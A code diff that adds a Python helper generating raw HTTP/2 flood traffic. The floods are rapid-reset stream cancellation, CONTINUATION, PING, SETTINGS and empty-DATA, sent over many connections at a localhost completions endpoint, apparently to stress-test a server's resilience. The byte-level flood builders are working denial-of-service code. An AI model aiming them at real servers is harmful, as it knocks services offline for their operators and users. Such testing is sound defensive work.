@@ -389,6 +389,45 @@ def raw_frame(ftype, flags, stream_id, payload):
         (stream_id & 0x7FFFFFFF).to_bytes(4, "big") + payload
 
 
+def flood_script(kind, port, batch=64):
+    """The same floods as raw bytes for attack_conn.ManyConns, many connections at once: returns
+    (first, more), the bytes each connection sends first (the preface and, for a flood on one
+    stream, its HEADERS) and a function giving its next batch of frames. Header blocks are
+    encoded once (literals only, so each block stands alone)."""
+    import hpack
+    assert kind in FLOODS, kind
+    base = [(":method", "POST"), (":path", "/v1/completions"), (":scheme", "http"),
+            (":authority", "127.0.0.1:%d" % port), ("content-type", "application/json")]
+    body = small_completion("rapid reset")
+
+    def block(length):
+        return hpack.Encoder().encode(base + [("content-length", str(length))])
+    preface = PREFACE + raw_frame(0x4, 0, 0, b"")
+    first = {"ping": preface, "settings": preface, "rapid_reset": preface,
+             "empty_data": preface + raw_frame(0x1, 0x4, 1, block(1 << 20)),
+             "continuation": preface + raw_frame(0x1, 0, 1, block(10))}[kind]
+    piece = {"ping": raw_frame(0x6, 0, 0, b"12345678"), "settings": raw_frame(0x4, 0, 0, b""),
+             "empty_data": raw_frame(0x0, 0, 1, b""),
+             "continuation": raw_frame(0x9, 0, 1, hpack.Encoder().encode([("x-flood", "a" * 64)]))}
+    if kind != "rapid_reset":
+        data = piece[kind] * batch
+        return (lambda i: first), (lambda i: data)
+    hdr, sids = block(len(body)), {}
+
+    def more(i):
+        s = sids.get(i, 1)
+        sids[i] = s + 2 * (batch // 4)
+        return b"".join(raw_frame(0x1, 0x4, sid, hdr) + raw_frame(0x0, 0x1, sid, body) +
+                        raw_frame(0x3, 0, sid, (8).to_bytes(4, "big"))
+                        for sid in range(s, s + 2 * (batch // 4), 2))
+
+    def opening(i):
+        sids.pop(i, None)  # a connection opened again starts at stream 1
+        return first
+    return opening, more
+
+
+
 def raw_headers(stream_id, port, path="/health", end_stream=True):
     """A HEADERS frame carrying a GET of `path` (HPACK from python-h2's own dependency)."""
     import hpack
